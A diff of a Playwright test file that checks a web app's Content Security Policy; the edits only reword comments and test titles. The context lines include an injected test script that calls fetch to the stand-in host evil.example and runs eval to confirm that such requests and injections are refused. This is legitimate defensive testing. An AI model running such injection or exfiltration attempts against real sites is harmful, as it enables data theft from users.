@@ -5,7 +5,7 @@ import { journey } from './journey.ts'
 
 const refused = /Content Security Policy|frame-ancestors|TrustedHTML|TrustedScript|Trusted Types/
 
-// Address of Chromium’s error page for a blocked frame.
+// URL of Chromium’s error page for a blocked frame.
 const blocked = 'chrome-error://chromewebdata/'
 
 /** Serves a page of another origin that frames the given URL. */
@@ -19,7 +19,7 @@ async function framingSite(framed: string) {
   return { url: `http://127.0.0.1:${port}/`, stop: () => server.close() }
 }
 
-/** Script that tries injections in the page. Returns the result of each attempt and the policy reports. */
+/** Script that tries to inject code into the page. Returns the result of each attempt and the policy reports. */
 const attempts = `(async () => {
   const reports = []
   document.addEventListener('securitypolicyviolation', (event) => reports.push(event.effectiveDirective))
@@ -34,7 +34,7 @@ const attempts = `(async () => {
   style.append('body { outline: 7px solid red }')
   document.head.append(style)
   const stolen = await fetch('https://evil.example/').then(() => 'sent', () => 'refused')
-  // Runs in a timeout, because eval is allowed in code that Playwright evaluates directly.
+  // Runs in a timeout, because the policy does not block eval in code that Playwright evaluates directly.
   const evaluated = await new Promise((resolve) =>
     setTimeout(() => resolve(tried(() => (0, eval)('window.taken = "eval"'))), 200))
   const { outlineStyle } = getComputedStyle(document.body)
@@ -42,7 +42,7 @@ const attempts = `(async () => {
 })()`
 
 describe('Content Security Policy', () => {
-  journey('blocks frames with pages of the app on any site (H02)', async ({ app, newContext, visit }) => {
+  journey('blocks frames of app pages on any site (security check H02)', async ({ app, newContext, visit }) => {
     for (const path of ['/', '/login', '/safety']) {
       const site = await framingSite(app.origin + path)
       const context = await newContext()
@@ -63,7 +63,7 @@ describe('Content Security Policy', () => {
   })
 
   journey(
-    'blocks injected scripts, handlers and styles, eval, and requests to other origins (H03)',
+    'blocks injected scripts, handlers and styles, eval, and requests to other origins (security check H03)',
     async ({ visit, aMember }) => {
       const member = await aMember({}, { provoked: refused })
       for (const page of [await visit('/', { provoked: refused }), member.page]) {
